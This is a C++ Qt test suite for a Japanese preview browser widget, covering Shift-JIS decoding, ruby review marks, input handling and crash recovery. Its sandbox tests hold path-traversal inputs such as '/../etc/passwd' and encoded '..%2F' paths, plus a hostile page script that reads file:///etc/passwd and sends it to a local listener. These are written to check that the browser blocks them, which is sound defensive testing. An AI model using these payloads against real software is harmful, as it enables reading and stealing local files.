#include "widgets/preview_browser.h"

#include <sys/resource.h>

#include <csignal>

#include <QApplication>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QImage>
#include <QMenu>
#include <QWebEngineHistory>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEnginePage>
#include <QWebEngineScript>
#include <QWebEngineSettings>
#include <QWebEngineView>
#include <QWindow>
#include <memory>

#include "encoding/cp932.h"
#include "widgets/preview_menu.h"
#include "widgets/preview_review.h"
#include "widgets/preview_scheme_handler.h"

namespace yomika {
namespace {

constexpr int kLoadTimeoutMs = 60000;

// Writes `html` to `path` as CP932, with CR LF line breaks as the converter writes them.
bool WriteCp932(const QString& path, const QString& html) {
  QString text = html;
  text.replace(QStringLiteral("\n"), QStringLiteral("\r\n"));
  const std::optional<QByteArray> bytes = cp932::Encode(text);
  QFile file(path);
  return bytes && file.open(QIODevice::WriteOnly | QIODevice::Truncate) &&
         file.write(*bytes) == bytes->size();
}

bool WriteBytes(const QString& path, const QByteArray& bytes) {
  QFile file(path);
  return file.open(QIODevice::WriteOnly | QIODevice::Truncate) && file.write(bytes) == bytes.size();
}

QString Page(const QString& head, const QString& body) {
  return QStringLiteral("<HTML>\n<HEAD>\n") + head + QStringLiteral("\n</HEAD>\n<BODY>\n") + body +
         QStringLiteral("\n</BODY>\n</HTML>\n");
}

// Shows the preview file and waits for the page to finish loading.
bool ShowAndWait(PreviewBrowser& browser) {
  QSignalSpy finished(&browser, &PreviewBrowser::LoadFinished);
  browser.ShowPreviewFile();
  return finished.wait(kLoadTimeoutMs) && finished.last().at(0).toBool();
}

// Runs a script in the page and returns its value (invalid on timeout): in the page's own
// world when its scripts may run, else in the application's world, which shares the DOM.
QVariant RunJs(PreviewBrowser& browser, const QString& script) {
  struct Result {
    bool done = false;
    QVariant value;
  };
  auto result = std::make_shared<Result>();
  QWebEnginePage* page = browser.view()->page();
  const bool page_scripts = page->settings()->testAttribute(QWebEngineSettings::JavascriptEnabled);
  page->runJavaScript(
      script, page_scripts ? QWebEngineScript::MainWorld : QWebEngineScript::ApplicationWorld,
      [result](const QVariant& value) {
        result->value = value;
        result->done = true;
      });
  if (!QTest::qWaitFor([&] { return result->done; }, 10000)) return {};
  return result->value;
}

// Lets the page's own scripts run; the preview forbids them, some tests need them.
void AllowPageScripts(PreviewBrowser& browser) {
  browser.view()->page()->settings()->setAttribute(QWebEngineSettings::JavascriptEnabled, true);
}

// Polls a script until it yields something other than null (for promise results the page
// parks in a global), returning it, or an invalid QVariant after 10 s.
QVariant WaitForJs(PreviewBrowser& browser, const QString& script) {
  QVariant value;
  const bool got = QTest::qWaitFor(
      [&] {
        value = RunJs(browser, script);
        return value.isValid() && !value.isNull();
      },
      10000);
  return got ? value : QVariant();
}

}  // namespace

class PreviewBrowserTest : public QObject {
  Q_OBJECT

 private slots:
  void init();

  // Path resolution under the base folder (no browser).
  void ResolveUnderBase_data();
  void ResolveUnderBase();
  void ContentType_data();
  void ContentType();

  // Normal: the preview file shows as Shift-JIS, afresh at every call.
  void ShowsShiftJisWithoutDeclaration();
  void DecodesAsShiftJis_data();
  void DecodesAsShiftJis();
  void ShowsRewrittenFile();
  void ShowWhileLoadingShowsTheLatest();
  void RelativeLinksResolveFromBaseFolder();
  void PreviewUrlNamesTheFile();

  // Bad input: paths that leave the base folder or name nothing.
  void SubresourceRequests_data();
  void SubresourceRequests();
  void MissingPreviewFileFailsToLoad();

  // A disabled browser ignores the mouse and the keyboard.
  void DisabledTakesNoInput();

  // A page the renderer runs out of memory on is reported; the next page shows.
  void RendererOutOfMemoryIsReportedAndTheNextPageShows();

  // A hostile page reaches nothing outside its folder, even with its scripts let run.
  void HostilePageReachesNoListener_data();
  void HostilePageReachesNoListener();
  // Our own Japanese menu; no history to go back to.
  void MenuIsOursAndNoHistoryIsKept();

  // Review: our isolated script marks the listed rubies in the live page only, with the
  // page's scripts off; clicks on rubies reach us whether the preview takes input or not.
  void ReviewMarksListedRubiesInTheLivePageOnly();
  void RubyClicksAreReported_data();
  void RubyClicksAreReported();
  void RevealScrollsAndTheNextPageKeepsTheScroll();

 private:
  std::unique_ptr<QTemporaryDir> dir_;
  QString base_;
  QString preview_;
};

void PreviewBrowserTest::init() {
  dir_ = std::make_unique<QTemporaryDir>();
  QVERIFY(dir_->isValid());
  // The preview file lives apart from the base folder so that serving one from the other
  // would show.
  const QDir root(dir_->path());
  QVERIFY(root.mkpath(QStringLiteral("base/css")));
  QVERIFY(root.mkpath(QStringLiteral("base/img")));
  QVERIFY(root.mkpath(QStringLiteral("out")));
  base_ = root.filePath(QStringLiteral("base"));
  preview_ = root.filePath(QStringLiteral("out/sample.html"));
}

void PreviewBrowserTest::ResolveUnderBase_data() {
  QTest::addColumn<QString>("url_path");
  QTest::addColumn<QString>("expected");  // empty: refused

  // normal
  QTest::newRow("file") << "/a.css"
                        << "/p/a.css";
  QTest::newRow("nested") << "/img/a.png"
                          << "/p/img/a.png";
  QTest::newRow("japanese") << u"/画像/字.png"_qs << u"/p/画像/字.png"_qs;
  // edge
  QTest::newRow("dot segment") << "/./img/./a.png"
                               << "/p/img/a.png";
  QTest::newRow("double slash") << "//img//a.png"
                                << "/p/img/a.png";
  QTest::newRow("dots in name") << "/..a/b..png"
                                << "/p/..a/b..png";
  QTest::newRow("root") << "/"
                        << "";
  QTest::newRow("empty") << ""
                         << "";
  // bad input
  QTest::newRow("parent") << "/../etc/passwd"
                          << "";
  QTest::newRow("parent inside") << "/img/../../x"
                                 << "";
  QTest::newRow("parent that stays inside") << "/img/../a.css"
                                            << "";
  QTest::newRow("trailing parent") << "/img/.."
                                   << "";
  QTest::newRow("nul") << QStringLiteral("/a\0b").append(QChar(u'\0')) << "";
}

void PreviewBrowserTest::ResolveUnderBase() {
  QFETCH(QString, url_path);
  QFETCH(QString, expected);
  const std::optional<QString> got = yomika::ResolveUnderBase(QStringLiteral("/p"), url_path);
  QCOMPARE(got.value_or(QString()), expected);
}

void PreviewBrowserTest::ContentType_data() {
  QTest::addColumn<QString>("name");
  QTest::addColumn<QByteArray>("expected");
  QTest::newRow("css") << "style.css" << QByteArray("text/css");
  QTest::newRow("png") << "a.png" << QByteArray("image/png");
  QTest::newRow("js") << "a.js" << QByteArray("application/javascript");
  QTest::newRow("upper case") << "A.PNG" << QByteArray("image/png");
}

void PreviewBrowserTest::ContentType() {
  QFETCH(QString, name);
  QFETCH(QByteArray, expected);
  QCOMPARE(ContentTypeFor(QDir(base_).filePath(name)), expected);
}

void PreviewBrowserTest::ShowsShiftJisWithoutDeclaration() {
  // Short and without a declaration: exactly what Chromium would guess wrong.
  QVERIFY(WriteCp932(preview_,
                     u"<HTML>\n<BODY>\n<ruby>漢字<rt>かんじ</rt></ruby>\n</BODY>\n</HTML>\n"_qs));
  QElapsedTimer timer;
  timer.start();
  PreviewBrowser browser(preview_, base_);
  browser.resize(400, 300);
  browser.show();
  QVERIFY(!browser.IsBusy());
  const qint64 created_ms = timer.restart();

  QSignalSpy finished(&browser, &PreviewBrowser::LoadFinished);
  browser.ShowPreviewFile();
  QVERIFY(browser.IsBusy());
  QVERIFY(finished.wait(kLoadTimeoutMs));
  // Start-up cost, reported rather than asserted (timing belongs to the benchmarks).
  qInfo("browser created and shown in %lld ms; first page loaded in %lld ms",
        static_cast<long long>(created_ms), static_cast<long long>(timer.elapsed()));
  QVERIFY(finished.last().at(0).toBool());
  QVERIFY(!browser.IsBusy());

  QCOMPARE(RunJs(browser, QStringLiteral("document.querySelector('rt').textContent")).toString(),
           u"かんじ"_qs);
  QCOMPARE(RunJs(browser, QStringLiteral("document.querySelector('ruby').firstChild.textContent"))
               .toString(),
           u"漢字"_qs);
  QCOMPARE(RunJs(browser, QStringLiteral("document.characterSet")).toString(),
           QStringLiteral("Shift_JIS"));
}

void PreviewBrowserTest::DecodesAsShiftJis_data() {
  QTest::addColumn<QString>("body");

  // normal
  QTest::newRow("ruby") << u"<ruby>漢字<rt>かんじ</rt></ruby>"_qs;
  QTest::newRow("sentence") << u"日本語の文章です。"_qs;
  // edge: the NEC and IBM extensions, and ASCII around a single character
  QTest::newRow("NEC circled digit") << u"①②③"_qs;
  QTest::newRow("IBM kanji") << u"髙﨑"_qs;
  QTest::newRow("one character in ASCII") << u"abc 字 def"_qs;
  // regression: single-byte katakana alone made Chromium's guess a Latin code page
  QTest::newRow("half-width katakana") << u"ｱｲｳｴｵ"_qs;
  QTest::newRow("half-width katakana with ASCII") << u"ｶﾅ 123"_qs;
}

void PreviewBrowserTest::DecodesAsShiftJis() {
  QFETCH(QString, body);
  QVERIFY(WriteCp932(preview_, u"<HTML>\n<BODY>\n"_qs + body + u"\n</BODY>\n</HTML>\n"_qs));
  PreviewBrowser browser(preview_, base_);
  QVERIFY(ShowAndWait(browser));
  QCOMPARE(RunJs(browser, QStringLiteral("document.characterSet")).toString(),
           QStringLiteral("Shift_JIS"));
  QString expected = body;
  expected.remove(QRegularExpression(QStringLiteral("<[^>]*>")));
  QCOMPARE(RunJs(browser, QStringLiteral("document.body.textContent.trim()")).toString(), expected);
}

void PreviewBrowserTest::ShowsRewrittenFile() {
  QVERIFY(WriteCp932(preview_, Page({}, u"<ruby>漢字<rt>かんじ</rt></ruby>"_qs)));
  PreviewBrowser browser(preview_, base_);
  QVERIFY(ShowAndWait(browser));

  // Same size, same name: only the contents differ.
  QVERIFY(WriteCp932(preview_, Page({}, u"<ruby>感じ<rt>かんじ</rt></ruby>"_qs)));
  QVERIFY(ShowAndWait(browser));
  QCOMPARE(RunJs(browser, QStringLiteral("document.querySelector('ruby').firstChild.textContent"))
               .toString(),
           u"感じ"_qs);

  QVERIFY(WriteCp932(preview_, Page({}, u"<p>三度目</p>"_qs)));
  QVERIFY(ShowAndWait(browser));
  QCOMPARE(RunJs(browser, QStringLiteral("document.body.textContent.trim()")).toString(),
           u"三度目"_qs);
}

void PreviewBrowserTest::ShowWhileLoadingShowsTheLatest() {
  QVERIFY(WriteCp932(preview_, Page({}, u"<p>一</p>"_qs)));
  PreviewBrowser browser(preview_, base_);
  QSignalSpy finished(&browser, &PreviewBrowser::LoadFinished);
  browser.ShowPreviewFile();
  QVERIFY(WriteCp932(preview_, Page({}, u"<p>二</p>"_qs)));
  browser.ShowPreviewFile();
  // Busy until the second page is in, whatever the first navigation reports.
  QVERIFY(QTest::qWaitFor([&] { return !finished.isEmpty() && finished.last().at(0).toBool(); },
                          kLoadTimeoutMs));
  QVERIFY(!browser.IsBusy());
  QCOMPARE(RunJs(browser, QStringLiteral("document.body.textContent.trim()")).toString(), u"二"_qs);
}

void PreviewBrowserTest::RelativeLinksResolveFromBaseFolder() {
  QVERIFY(WriteBytes(QDir(base_).filePath(QStringLiteral("css/style.css")),
                     "p { color: rgb(12, 34, 56); }\n"));
  QImage image(3, 2, QImage::Format_RGB32);
  image.fill(Qt::red);
  QVERIFY(image.save(QDir(base_).filePath(QStringLiteral("img/a.png"))));
  QVERIFY(
      WriteCp932(preview_, Page(QStringLiteral("<link rel=\"stylesheet\" href=\"css/style.css\">"),
                                u"<p>字</p><img src=\"img/a.png\">"_qs)));
  PreviewBrowser browser(preview_, base_);
  QVERIFY(ShowAndWait(browser));

  QCOMPARE(RunJs(browser, QStringLiteral("getComputedStyle(document.querySelector('p')).color"))
               .toString(),
           QStringLiteral("rgb(12, 34, 56)"));
  QCOMPARE(RunJs(browser, QStringLiteral("document.images[0].naturalWidth")).toInt(), 3);
}

void PreviewBrowserTest::PreviewUrlNamesTheFile() {
  PreviewBrowser browser(preview_, base_);
  QCOMPARE(browser.PreviewUrl(), QUrl(QStringLiteral("yomika://preview/sample.html")));
  PreviewBrowser spaced(QDir(base_).filePath(u"プレ ビュー.html"_qs), base_);
  QCOMPARE(spaced.PreviewUrl().path(), u"/プレ ビュー.html"_qs);
}

void PreviewBrowserTest::SubresourceRequests_data() {
  QTest::addColumn<QString>("href");
  QTest::addColumn<int>("width");  // 3: the image inside, 5: the one outside, 0: refused

  // normal
  QTest::newRow("file in base") << "img/x.png" << 3;
  QTest::newRow("absolute path") << "/img/x.png" << 3;
  QTest::newRow("folded parent") << "css/../img/x.png" << 3;
  QTest::newRow("link inside the folder") << "img/inside-link.png" << 3;
  // bad input
  QTest::newRow("missing") << "img/nope.png" << 0;
  QTest::newRow("folder") << "img" << 0;
  QTest::newRow("parent, folded to base") << "../secret.png" << 0;
  QTest::newRow("encoded slash") << "..%2Fsecret.png" << 0;
  QTest::newRow("encoded dots and slash") << "%2E%2E%2Fsecret.png" << 0;
  QTest::newRow("deep encoded") << "img/..%2F..%2Fsecret.png" << 0;
  QTest::newRow("other host") << "yomika://elsewhere/img/x.png" << 0;
  QTest::newRow("link leaving the folder") << "img/secret-link.png" << 0;
  QTest::newRow("file: URL") << "file://SECRET" << 0;
}

void PreviewBrowserTest::SubresourceRequests() {
  QFETCH(QString, href);
  QFETCH(int, width);
  QImage image(3, 2, QImage::Format_RGB32);
  image.fill(Qt::red);
  QVERIFY(image.save(QDir(base_).filePath(QStringLiteral("img/x.png"))));
  // Just outside the base folder, where an escaping path would land.
  const QString secret = QDir(dir_->path()).filePath(QStringLiteral("secret.png"));
  QVERIFY(image.scaled(5, 2).save(secret));
  QVERIFY(QFile::link(secret, QDir(base_).filePath(QStringLiteral("img/secret-link.png"))));
  QVERIFY(QFile::link(QStringLiteral("x.png"),
                      QDir(base_).filePath(QStringLiteral("img/inside-link.png"))));
  href.replace(QStringLiteral("SECRET"), secret);
  QVERIFY(WriteCp932(preview_, Page({}, QStringLiteral("<img src=\"%1\">").arg(href))));
  PreviewBrowser browser(preview_, base_);
  QVERIFY(ShowAndWait(browser));
  QCOMPARE(WaitForJs(browser, QStringLiteral("document.images[0].complete ?"
                                             " document.images[0].naturalWidth : null"))
               .toInt(),
           width);
}

void PreviewBrowserTest::MissingPreviewFileFailsToLoad() {
  PreviewBrowser browser(preview_, base_);
  QVERIFY(!ShowAndWait(browser));
  QVERIFY(!browser.IsBusy());
  // Once written, the next call shows it.
  QVERIFY(WriteCp932(preview_, Page({}, u"<p>できた</p>"_qs)));
  QVERIFY(ShowAndWait(browser));
  QCOMPARE(RunJs(browser, QStringLiteral("document.body.textContent.trim()")).toString(),
           u"できた"_qs);
}

void PreviewBrowserTest::DisabledTakesNoInput() {
  QVERIFY(WriteCp932(
      preview_, Page(QStringLiteral("<script>window.clicks = 0; window.keys = 0;"
                                    "addEventListener('mousedown', () => ++window.clicks);"
                                    "addEventListener('keydown', () => ++window.keys);</script>"),
                     QStringLiteral("<div style=\"width:100%;height:300px\">x</div>"))));
  PreviewBrowser browser(preview_, base_);
  AllowPageScripts(browser);
  browser.resize(400, 300);
  browser.show();
  QVERIFY(QTest::qWaitForWindowExposed(&browser));
  browser.activateWindow();
  QVERIFY(QTest::qWaitForWindowActive(&browser));
  QVERIFY(ShowAndWait(browser));
  QWidget* render = browser.view()->focusProxy();
  QVERIFY(render != nullptr);

  // Input goes through the window, as from the window system.
  QWindow* window = browser.windowHandle();
  const QPoint inside = render->mapTo(&browser, QPoint(50, 50));
  auto click_and_type = [&] {
    QTest::mouseClick(window, Qt::LeftButton, {}, inside);
    QTest::keyClick(window, Qt::Key_A);
  };

  browser.view()->setFocus();
  click_and_type();
  QCOMPARE(
      WaitForJs(browser,
                QStringLiteral(
                    "window.keys >= 1 && window.clicks >= 1 ? [window.clicks, window.keys] : null"))
          .toList(),
      (QVariantList{1, 1}));

  browser.setEnabled(false);
  click_and_type();
  // Input reaches the page in order: once the next enabled input arrives, any that got
  // through while disabled would have been counted before it.
  browser.setEnabled(true);
  browser.view()->setFocus();
  click_and_type();
  QCOMPARE(
      WaitForJs(browser,
                QStringLiteral(
                    "window.keys >= 2 && window.clicks >= 2 ? [window.clicks, window.keys] : null"))
          .toList(),
      (QVariantList{2, 2}));
  QTest::qWait(200);
  QCOMPARE(RunJs(browser, QStringLiteral("[window.clicks, window.keys]")).toList(),
           (QVariantList{2, 2}));
}

void PreviewBrowserTest::RendererOutOfMemoryIsReportedAndTheNextPageShows() {
  QVERIFY(WriteCp932(preview_, Page({}, u"<p>小さい</p>"_qs)));
  PreviewBrowser browser(preview_, base_);
  QVERIFY(ShowAndWait(browser));
  // The renderer gets little more address space than it has: room for two more threads'
  // stacks (8 MB each), not for the 12 MB page, hundreds of megabytes once laid out.
  const qint64 pid = browser.view()->page()->renderProcessPid();
  QFile status(QStringLiteral("/proc/%1/status").arg(pid));
  QVERIFY(status.open(QIODevice::ReadOnly));
  const QRegularExpression vm_size(QStringLiteral("VmSize:\\s+(\\d+) kB"));
  const qint64 kb = vm_size.match(QString::fromLatin1(status.readAll())).captured(1).toLongLong();
  QVERIFY(kb > 0);
  constexpr qint64 kRoomKb = 16 * 1024;
  const rlimit limit{static_cast<rlim_t>((kb + kRoomKb) * 1024),
                     static_cast<rlim_t>((kb + kRoomKb) * 1024)};
  if (prlimit(static_cast<pid_t>(pid), RLIMIT_AS, &limit, nullptr) != 0) {
    QSKIP("cannot limit the renderer's memory here");
  }
  QString huge;
  while (huge.size() < 6'000'000) huge += u"<ruby>漢字<rt>かんじ</rt></ruby>は"_qs;
  QVERIFY(WriteCp932(preview_, Page({}, huge)));
  QSignalSpy failed(&browser, &PreviewBrowser::PageFailed);
  QElapsedTimer timer;
  timer.start();
  browser.ShowPreviewFile();
  // Starved of address space, the renderer dies of it within seconds; should a thread it
  // starts fail first and leave it waiting instead, it is ended from outside, as the
  // system's OOM killer would: what is tested is that an ended renderer is reported and
  // replaced, whatever ended it.
  constexpr int kOutOfMemoryWaitMs = 30000;
  if (!failed.wait(kOutOfMemoryWaitMs)) {
    qInfo("renderer still running after %lld ms; killing it",
          static_cast<long long>(timer.elapsed()));
    QCOMPARE(::kill(static_cast<pid_t>(pid), SIGKILL), 0);
    QVERIFY(failed.wait(kLoadTimeoutMs));
  }
  qInfo("renderer ended after %lld ms", static_cast<long long>(timer.elapsed()));
  QVERIFY(failed.first().at(0).toString().contains(u"プレビューを表示できませんでした"_qs));
  QVERIFY(QTest::qWaitFor([&] { return !browser.IsBusy(); }, kLoadTimeoutMs));

  QVERIFY(WriteCp932(preview_, Page({}, u"<p>次の変換</p>"_qs)));
  // The crashed navigation may still report its end first; the new page follows.
  QSignalSpy finished(&browser, &PreviewBrowser::LoadFinished);
  browser.ShowPreviewFile();
  QVERIFY(QTest::qWaitFor([&] { return !finished.isEmpty() && finished.last().at(0).toBool(); },
                          kLoadTimeoutMs));
  QCOMPARE(RunJs(browser, QStringLiteral("document.body.textContent.trim()")).toString(),
           u"次の変換"_qs);
}

void PreviewBrowserTest::HostilePageReachesNoListener_data() {
  QTest::addColumn<bool>("scripts_forced_on");
  QTest::newRow("as configured") << false;
  QTest::newRow("scripts forced on: the interceptor alone") << true;
}

void PreviewBrowserTest::HostilePageReachesNoListener() {
  QFETCH(bool, scripts_forced_on);
  QTcpServer listener;
  QVERIFY(listener.listen(QHostAddress::LocalHost));
  int connections = 0;
  connect(&listener, &QTcpServer::newConnection, &listener, [&] {
    while (QTcpSocket* socket = listener.nextPendingConnection()) {
      ++connections;
      socket->deleteLater();
    }
  });
  const QString at = QStringLiteral("127.0.0.1:%1").arg(listener.serverPort());
  QString head = QStringLiteral(
      "<meta http-equiv=\"refresh\" content=\"1;url=http://AT/refresh\">"
      "<link rel=\"stylesheet\" href=\"http://AT/css\"><link rel=\"prefetch\" "
      "href=\"http://AT/pre\">"
      "<script>"
      "fetch('http://AT/fetch').catch(() => {});"
      "const x = new XMLHttpRequest(); x.open('GET', 'http://AT/xhr'); x.send();"
      "try { new WebSocket('ws://AT/ws'); } catch (e) {}"
      "navigator.sendBeacon && navigator.sendBeacon('http://AT/beacon', 'x');"
      "window.open('http://AT/open');"
      "setTimeout(() => { document.forms[0].submit(); }, 300);"
      "setTimeout(() => { location.href = 'http://AT/navigate'; }, 600);"
      "fetch('file:///etc/passwd').then(r => r.text()).then(t => fetch('http://AT/leak?' + t));"
      "</script>");
  QString body = QStringLiteral(
      "<ruby>漢字<rt>かんじ</rt></ruby>"
      "<img src=\"http://AT/img\"><iframe src=\"http://AT/iframe\"></iframe>"
      "<iframe src=\"file:///etc/passwd\"></iframe>"
      "<video src=\"http://AT/video\"></video><object data=\"http://AT/object\"></object>"
      "<div style=\"background: url(http://AT/background)\">x</div>"
      "<form action=\"http://AT/form\" method=\"post\"><input name=\"q\" value=\"1\">"
      "<input type=\"submit\" style=\"position:fixed;left:0;top:0;width:100px;height:40px\"></form>"
      "<a href=\"http://AT/link\" target=\"_blank\" "
      "style=\"position:fixed;left:0;top:60px;width:100px;height:40px;display:block\">link</a>"
      "<a href=\"ws://AT/same\" style=\"position:fixed;left:0;top:120px;width:100px;height:40px;"
      "display:block\">same</a>");
  QVERIFY(WriteCp932(preview_, Page(head.replace(QStringLiteral("AT"), at),
                                    body.replace(QStringLiteral("AT"), at))));
  PreviewBrowser browser(preview_, base_);
  if (scripts_forced_on) AllowPageScripts(browser);
  browser.resize(400, 300);
  browser.show();
  QVERIFY(QTest::qWaitForWindowExposed(&browser));
  QVERIFY(ShowAndWait(browser));
  // What a reader's clicks do: submit the form, follow the links.
  QWidget* render = browser.view()->focusProxy();
  QVERIFY(render != nullptr);
  for (const int y : {20, 80, 140}) {
    QTest::mouseClick(browser.windowHandle(), Qt::LeftButton, {},
                      render->mapTo(&browser, QPoint(20, y)));
  }
  QTest::qWait(3000);
  QCOMPARE(connections, 0);
  QCOMPARE(browser.view()->url().scheme(), QStringLiteral("yomika"));
  if (scripts_forced_on) {
    // The review channel lives in our isolated world only.
    QCOMPARE(RunJs(browser, QStringLiteral("typeof qt + ' ' + typeof QWebChannel")).toString(),
             QStringLiteral("undefined undefined"));
  }
  QCOMPARE(RunJs(browser, QStringLiteral("document.querySelector('rt').textContent")).toString(),
           u"かんじ"_qs);
}

void PreviewBrowserTest::MenuIsOursAndNoHistoryIsKept() {
  QVERIFY(WriteCp932(preview_, Page({}, u"<p>一</p>"_qs)));
  PreviewBrowser browser(preview_, base_);
  QVERIFY(ShowAndWait(browser));
  QVERIFY(ShowAndWait(browser));
  QVERIFY(!browser.view()->history()->canGoBack());
  QCOMPARE(browser.view()->contextMenuPolicy(), Qt::CustomContextMenu);

  int source_views = 0;
  QMenu* menu = CreatePreviewMenu(browser.view(), [&source_views] { ++source_views; });
  QStringList items;
  for (QAction* action : menu->actions()) {
    if (!action->isSeparator()) items.append(action->text());
  }
  QCOMPARE(items, (QStringList{u"コピー(&C)"_qs, u"すべて選択(&A)"_qs, u"再読み込み(&R)"_qs,
                              u"ソース表示(&V)"_qs}));
  QVERIFY(!menu->actions().first()->isEnabled());  // nothing selected
  menu->actions().last()->trigger();
  QTRY_COMPARE(source_views, 1);
}

namespace {

// Waits for the review script of the page shown to report that it is ready.
bool WaitForReview(PreviewBrowser& browser) {
  return QTest::qWaitFor([&] { return browser.review()->ruby_count() >= 0; }, 20000);
}

QString RubyPage(const QString& body) {
  return Page(QStringLiteral("<script>document.documentElement.dataset.page = 'ran';</script>"),
              body);
}

}  // namespace

void PreviewBrowserTest::ReviewMarksListedRubiesInTheLivePageOnly() {
  QVERIFY(WriteCp932(
      preview_,
      RubyPage(QStringLiteral("<p><ruby>漢字<rt>かんじ</rt></ruby>と<ruby>山<rt>やま</rt></ruby>"
                              "と<RUBY>川<RP>(</RP><RT>かわ</RT><RP>)</RP></RUBY></p>"))));
  QFile file(preview_);
  QVERIFY(file.open(QIODevice::ReadOnly));
  const QByteArray bytes = file.readAll();
  file.close();
  PreviewBrowser browser(preview_, base_);
  browser.review()->SetMarks({{0, u"漢字"_qs, u"かんじ"_qs},
                              {1, u"山"_qs, u"さん"_qs},  // the page reads it otherwise
                              {2, u"川"_qs, u"かわ"_qs},
                              {7, u"海"_qs, u"うみ"_qs}});  // no such element
  QVERIFY(ShowAndWait(browser));
  QVERIFY(WaitForReview(browser));
  QCOMPARE(browser.review()->ruby_count(), 3);
  QTRY_COMPARE(browser.review()->marked_count(), 2);
  QCOMPARE(RunJs(browser, QStringLiteral("Array.from(document.getElementsByTagName('ruby'), r => "
                                         "getComputedStyle(r).textDecorationStyle).join(' ')"))
               .toString(),
           QStringLiteral("wavy solid wavy"));
  // The page's own script stayed off; the file is as written.
  QCOMPARE(
      RunJs(browser, QStringLiteral("String(document.documentElement.dataset.page)")).toString(),
      QStringLiteral("undefined"));
  QVERIFY(file.open(QIODevice::ReadOnly));
  QCOMPARE(file.readAll(), bytes);

  // New marks replace the old ones in the page shown.
  QSignalSpy applied(browser.review(), &PreviewReview::MarksApplied);
  browser.review()->SetMarks({{1, u"山"_qs, u"やま"_qs}});
  QVERIFY(applied.wait(10000));
  QCOMPARE(RunJs(browser, QStringLiteral("Array.from(document.getElementsByTagName('ruby'), r => "
                                         "getComputedStyle(r).textDecorationStyle).join(' ')"))
               .toString(),
           QStringLiteral("solid wavy solid"));
}

void PreviewBrowserTest::RubyClicksAreReported_data() {
  QTest::addColumn<bool>("read_only");
  QTest::newRow("read-only preview") << true;
  QTest::newRow("preview taking input") << false;
}

void PreviewBrowserTest::RubyClicksAreReported() {
  QFETCH(bool, read_only);
  QVERIFY(WriteCp932(preview_,
                     RubyPage(QStringLiteral(
                         "<p style=\"font-size:40px;margin:40px\"><ruby>一<rt>いち</rt></ruby>と"
                         "<a href=\"other.html\"><ruby>二つ<rt>ふたつ</rt></ruby></a></p>"))));
  QWidget frame;
  frame.resize(400, 300);
  PreviewBrowser browser(preview_, base_, &frame);
  browser.resize(400, 300);
  std::vector<RubyClick> clicks;
  browser.review()->SetRubyClickedCallback(
      [&](const RubyClick& click) { clicks.push_back(click); });
  frame.show();
  QVERIFY(QTest::qWaitForWindowExposed(&frame));
  QVERIFY(ShowAndWait(browser));
  QVERIFY(WaitForReview(browser));
  frame.setEnabled(!read_only);
  const QVariantList box =
      RunJs(browser, QStringLiteral("(b => [b.left + b.width / 2, b.top + b.height / 2])"
                                    "(document.getElementsByTagName('ruby')[1]"
                                    ".getBoundingClientRect())"))
          .toList();
  QCOMPARE(box.size(), 2);
  QWidget* render = browser.view()->focusProxy();
  QVERIFY(render != nullptr);
  const QPoint at(qRound(box[0].toDouble()), qRound(box[1].toDouble()));
  QTest::mouseClick(frame.windowHandle(), Qt::LeftButton, {}, render->mapTo(&frame, at));
  QTRY_COMPARE_WITH_TIMEOUT(clicks.size(), std::size_t{1}, 10000);
  QCOMPARE(clicks[0].ordinal, 1);
  QCOMPARE(clicks[0].text, u"二つ"_qs);
  QCOMPARE(clicks[0].reading, u"ふたつ"_qs);
  QVERIFY(clicks[0].global_rect.contains(render->mapToGlobal(at)));
  // The link around the ruby was not followed.
  QTest::qWait(500);
  QVERIFY(browser.view()->url().path().endsWith(QStringLiteral("sample.html")));
  // A click beside the rubies is nobody's.
  QTest::mouseClick(frame.windowHandle(), Qt::LeftButton, {},
                    render->mapTo(&frame, QPoint(380, 280)));
  QTest::qWait(500);
  QCOMPARE(clicks.size(), std::size_t{1});
}

void PreviewBrowserTest::RevealScrollsAndTheNextPageKeepsTheScroll() {
  QVERIFY(WriteCp932(preview_, RubyPage(QStringLiteral("<div style=\"height:3000px\">上</div>"
                                                       "<ruby>下<rt>した</rt></ruby>"
                                                       "<div style=\"height:3000px\"></div>"))));
  PreviewBrowser browser(preview_, base_);
  browser.resize(400, 300);
  std::vector<RubyClick> clicks;
  browser.review()->SetRubyClickedCallback(
      [&](const RubyClick& click) { clicks.push_back(click); });
  browser.show();
  QVERIFY(QTest::qWaitForWindowExposed(&browser));
  QVERIFY(ShowAndWait(browser));
  QVERIFY(WaitForReview(browser));
  browser.review()->Reveal(0);
  QTRY_COMPARE_WITH_TIMEOUT(clicks.size(), std::size_t{1}, 10000);
  QCOMPARE(clicks[0].text, u"下"_qs);
  const double revealed = RunJs(browser, QStringLiteral("window.scrollY")).toDouble();
  QVERIFY(revealed > 2000);
  QTRY_VERIFY(browser.view()->page()->scrollPosition().y() > 2000);

  browser.review()->KeepScrollForNextPage();
  QVERIFY(ShowAndWait(browser));
  QVERIFY(WaitForReview(browser));
  QTRY_COMPARE(RunJs(browser, QStringLiteral("window.scrollY")).toDouble(), revealed);
}

}  // namespace yomika

int main(int argc, char** argv) {
  yomika::PrepareEmbeddedBrowser();
  QApplication app(argc, argv);
  yomika::PreviewBrowserTest test;
  return QTest::qExec(&test, argc, argv);
}

#include "preview_browser_test.moc"
